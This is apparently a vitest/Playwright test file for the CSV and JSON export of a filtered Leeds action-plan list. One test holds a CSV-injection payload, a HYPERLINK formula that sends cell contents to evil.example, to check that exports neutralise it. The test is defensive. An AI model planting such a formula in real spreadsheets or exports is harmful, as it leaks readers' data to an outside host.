import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { useBrowser } from './browser.ts';
import { listedOn } from './listed.ts';
import { planFromFiles } from './plan-from-files.ts';

const browser = useBrowser();
const plan = new Map(planFromFiles('leeds').map((action) => [action.id, action]));
const chosen = '/leeds/actions/?owner=west-yorkshire-police&timescale=2024-25&timescale=ongoing&sort=timescale';

test('the CSV of a filtered list holds just its actions, in its order', async () => {
  await browser.open(chosen, async (page) => {
    const ids = await listedOn(page);
    const { name, text } = await download(page, 'CSV');
    const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
    expect(name).toBe('leeds-actions-chosen.csv');
    expect(ids.length).toBeGreaterThan(20);
    expect(rows.map(({ id }) => id)).toEqual(ids);
    for (const row of rows) {
      const action = plan.get(row['id'] ?? '');
      expect(row).toMatchObject({
        text: action?.text,
        timescale: action?.timescale,
        leads: action?.leads.join(' | '),
        objective: action?.values['objective']?.[0],
      });
    }
  });
});

test('the JSON of a filtered list holds the same actions', async () => {
  await browser.open(chosen, async (page) => {
    const { name, text } = await download(page, 'JSON');
    const records = JSON.parse(text) as { id: string }[];
    expect(name).toBe('leeds-actions-chosen.json');
    expect(records.map(({ id }) => id)).toEqual(await listedOn(page));
  });
});

test('the whole list is the file of all actions', async () => {
  await browser.open('/leeds/actions/', async (page) => {
    const { name, text } = await download(page, 'CSV');
    expect(name).toBe('leeds-actions.csv');
    expect(parse(text, { bom: true, columns: true })).toHaveLength(129);
  });
});

test('what a spreadsheet could run is harmless in the file', async () => {
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  await browser.open('/', async (page) => {
    await page.route('**/data/actions.json', async (route) => {
      const response = await route.fetch();
      const records = (await response.json()) as { id: string; text: string }[];
      const changed = records.map((record) => (record.id === '1.2-05' ? { ...record, text: formula } : record));
      await route.fulfill({ response, json: changed });
    });
    await page.goto('/leeds/actions/?q=1.2-05');
    const { text } = await download(page, 'CSV');
    const rows: Record<string, string>[] = parse(text, { bom: true, columns: true });
    expect(rows.map((row) => row['text'])).toEqual([`'${formula}`]);
  });
});

test('a reader whose connection is gone is told so', async () => {
  await browser.open('/leeds/actions/?owner=courts', async (page) => {
    await page.route('**/data/actions.json', (route) => route.abort());
    await page.getByRole('link', { name: 'Download this list (CSV)' }).click();
    await expect.poll(() => page.getByRole('alert').innerText()).toContain('The file could not be made.');
  });
});

async function download(page: Page, format: 'CSV' | 'JSON'): Promise<{ name: string; text: string }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: `Download this list (${format})` }).click(),
  ]);
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') };
}
